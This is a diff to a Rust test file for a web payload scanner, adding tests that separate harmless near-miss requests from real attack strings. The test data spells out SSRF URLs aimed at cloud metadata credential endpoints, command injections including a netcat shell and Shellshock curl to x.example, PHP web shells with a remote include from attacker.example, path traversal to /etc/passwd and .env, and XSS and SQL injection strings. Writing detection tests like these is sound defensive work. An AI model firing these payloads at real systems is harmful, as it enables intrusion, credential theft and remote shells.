@@ -241,7 +241,9 @@ fn a_payload_at_the_end_of_a_64_kb_field_is_found() {
     for (family, payload) in [
         (Family::Xss, "<script>alert(1)</script>"),
         (Family::Sqli, "' UNION SELECT password FROM users--"),
-        (Family::Command, "; cat /etc/passwd"),
+        // After prose, only a command no one types in prose counts (`; cat /etc/passwd` there is
+        // suspicious: a sentence can quote it).
+        (Family::Command, "; wget http://x.example/s.sh -O /tmp/s"),
         (Family::Jndi, "${jndi:ldap://x/a}"),
         (Family::Template, "{{7*7}}"),
     ] {
@@ -286,4 +288,118 @@ proptest! {
         let f = scan(&PayloadInput::only(location, &text), &mut Scratch::default());
         prop_assert!(f.values > 0 || text.is_empty());
     }
+}
+
+/// The red team's ordinary requests that were confirmed as payloads, each next to a real payload
+/// of the same family that must stay confirmed.
+#[test]
+fn red_team_near_misses_stay_unconfirmed_and_their_families_real_payloads_do_not() {
+    let svg = |s: &str| {
+        const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut out = String::from("data:image/svg+xml;base64,");
+        for c in s.as_bytes().chunks(3) {
+            let n = c.iter().enumerate().fold(0u32, |a, (i, &b)| a | u32::from(b) << (16 - 8 * i));
+            for i in 0..4 {
+                out.push(if i <= c.len() { T[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
+            }
+        }
+        out
+    };
+    let avatar = svg("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>");
+    let near_misses: &[(Family, &str)] = &[
+        (Family::Ssrf, "http://localhost:3000/callback"),
+        (Family::Ssrf, "http://127.0.0.1:8080/cb"),
+        (Family::Ssrf, "http://192.168.1.20:8080/hook"),
+        (Family::Ssrf, "http://localhost:3000/webhooks/stripe"),
+        (Family::Command, "## Steps\n1. run `npm i`\n2. `cat package.json | grep version`\n```sh\nrm -rf node_modules && npm ci\n```\n> works on my machine :)"),
+        (Family::Command, "I tried `curl -s https://api.example.com/v1/me | jq .` and then ; ls -la ~/.config and nothing"),
+        (Family::Command, "sudo apt update; cat /etc/os-release"),
+        (Family::Command, "Ran: sudo systemctl restart nginx; cat /var/log/nginx/error.log | tail -n 50"),
+        (Family::Code, "Should we use <?php echo htmlspecialchars($name); ?> here instead of echo $_GET[\"name\"]?"),
+        (Family::Code, "<?php echo $name; ?>"),
+        (Family::Traversal, "../shared/config/etc/passwd.example"),
+        (Family::Traversal, "src/../README.md"),
+        (Family::Xss, &avatar),
+    ];
+    for &(family, t) in near_misses {
+        let f = value(t);
+        assert_eq!(f.confirmed(family), 0, "{family:?} confirmed in {t}: {f:?}");
+        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
+    }
+    let oauth = scan(&PayloadInput { path: "/oauth/authorize?client_id=abc&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback", ..Default::default() }, &mut Scratch::default());
+    assert!(!oauth.any_confirmed() && oauth.suspicious(Family::Ssrf) == 1, "{oauth:?}");
+    let github = body(r#"{"commits":[{"message":"move config","modified":["../shared/config/etc/passwd.example","src/../README.md"]}]}"#);
+    assert!(!github.any_confirmed(), "{github:?}");
+
+    let scripted = svg("<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/><script>alert(document.domain)</script></svg>");
+    let kept: &[(Family, &str)] = &[
+        (Family::Ssrf, "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+        (Family::Ssrf, "http://metadata.google.internal/computeMetadata/v1beta1/"),
+        (Family::Ssrf, "http://[fd00:ec2::254]/latest/meta-data/"),
+        (Family::Ssrf, "http://100.100.100.200/latest/meta-data/"),
+        (Family::Ssrf, "http://2130706433/"),
+        (Family::Ssrf, "http://0x7f.1/"),
+        (Family::Ssrf, "http://127.1/"),
+        (Family::Ssrf, "http://[::ffff:127.0.0.1]/"),
+        (Family::Ssrf, "http://127.0.0.1.nip.io/"),
+        (Family::Ssrf, "http://good.example@127.0.0.1/"),
+        (Family::Ssrf, "http://127.0.0.1:6379/"),
+        (Family::Ssrf, "http://localhost:8080/jmx-console"),
+        (Family::Ssrf, "http://127.0.0.1/%61dmin"),
+        (Family::Ssrf, "dict://127.0.0.1:11211/stats"),
+        (Family::Ssrf, "file:///etc/passwd"),
+        (Family::Ssrf, "jar:http://127.0.0.1!/"),
+        (Family::Command, "127.0.0.1; cat /etc/passwd"),
+        (Family::Command, "a);id"),
+        (Family::Command, "www.example.com;cat /etc/${a}passwd"),
+        (Family::Command, "() { :;}; /bin/bash -c \"curl http://x.example/s.txt\""),
+        (Family::Command, "; nc -lvvp 4444 -e /bin/sh;"),
+        (Family::Code, "<?php system($_GET['cmd']); ?>"),
+        (Family::Code, "<?php include('http://attacker.example/shell.txt'); ?>"),
+        (Family::Code, "<?= `id` ?>"),
+        (Family::Traversal, "../../etc/passwd"),
+        (Family::Traversal, "../WEB-INF/web.xml"),
+        (Family::Traversal, "file=../.env"),
+        (Family::Xss, &scripted),
+        (Family::Xss, "data:image/svg+xml,<svg onload=alert(1)>"),
+    ];
+    for &(family, p) in kept {
+        let f = value(p);
+        assert_eq!(f.confirmed(family), 1, "{family:?} not confirmed in {p}: {f:?}");
+    }
+}
+
+#[test]
+fn path_payloads_spanning_segments_are_confirmed_and_rest_paths_are_not() {
+    let path = |p: &str| scan(&PayloadInput::only(Location::Path, p), &mut Scratch::default());
+    for (family, p) in [
+        (Family::Xss, "/search/<svg/onload=alert(1)>"),
+        (Family::Xss, "/p/<img/src/onerror=alert(1)>"),
+        (Family::Xss, "/go/javascript://%0aalert(1)"),
+        (Family::Sqli, "/products/1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--"),
+        (Family::Sqli, "/search/1'%20union%20select%201,2%20from%20users--/x"),
+        (Family::Traversal, "/download/..%2f..%2fetc/passwd"),
+    ] {
+        let f = path(p);
+        assert_eq!(f.confirmed(family), 1, "{family:?} in {p}: {f:?}");
+    }
+    for p in ["/api/v2/users/42/orders?page=2", "/2024/05/12/why-we-moved-to-rust/", "/assets/app.1.2.3..min.js", "/docs/Web/API/Element/click_event", "/wiki/C%2B%2B/history", "/u/anna%20lee/posts/7"] {
+        assert!(!path(p).any_confirmed(), "{p}");
+    }
+}
+
+#[test]
+fn multipart_parts_busboy_parses_are_scanned() {
+    let sql = "1' OR '1'='1' -- ";
+    for m in [
+        format!("This is a multi-part message in MIME format.\r\n--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{sql}\r\n--XyZ--\r\n"),
+        format!("--XyZ\nContent-Disposition: form-data; name=q\n\n{sql}\n--XyZ--\n"),
+        format!("--XyZ\r\nCONTENT-DISPOSITION: FORM-DATA; NAME=\"q\"\r\n\r\n{sql}\r\n--XyZ--\r\n"),
+        format!("--a b c\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{sql}\r\n--a b c--\r\n"),
+    ] {
+        let f = body(&m);
+        assert_eq!(f.confirmed(Family::Sqli), 1, "{m:?}: {f:?}");
+    }
+    let f = body("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n");
+    assert_eq!(f.confirmed(Family::Xss), 1, "{f:?}");
 }
